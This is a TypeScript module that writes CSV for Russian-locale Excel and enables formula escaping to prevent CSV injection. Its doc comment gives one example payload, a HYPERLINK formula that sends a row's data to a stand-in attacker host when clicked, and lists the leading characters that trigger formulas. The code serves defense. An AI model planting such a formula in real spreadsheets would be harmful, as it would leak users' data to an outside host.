import { pipeline, Readable } from 'node:stream';
import { stringify } from 'csv-stringify';

/**
 * CSV that Russian Excel opens as a table (`;`, UTF-8 with a BOM, CRLF) and that cannot run anything
 * in it. OWASP's "CSV Injection": a text cell starting with =, +, -, @, tab or CR (or their
 * full-width forms) is a formula to Excel and LibreOffice (`=HYPERLINK("http://evil.example/?leak="&A2)`
 * sends the row away on a click), so csv-stringify's escape_formulas writes it with a leading ' and
 * every text cell is quoted. Numbers would be left as numbers (a negative one is no formula), but
 * the needs export writes none: its quantities and prices are text with a decimal comma, positive by
 * their schema, and its codes are digits.
 */

export type CsvCell = string | null | undefined;

const CSV_OPTIONS = {
  delimiter: ';',
  record_delimiter: '\r\n',
  bom: true,
  escape_formulas: true,
  quoted_string: true,
} as const;

/** Streams the records as CSV; a failing source (a page of the export) destroys the stream. */
export function csvStream(records: Iterable<CsvCell[]> | AsyncIterable<CsvCell[]>): Readable {
  const csv = stringify(CSV_OPTIONS);
  // The error reaches whoever reads `csv` (it is destroyed with it); nothing else to do here.
  pipeline(Readable.from(records), csv, () => undefined);
  return csv;
}
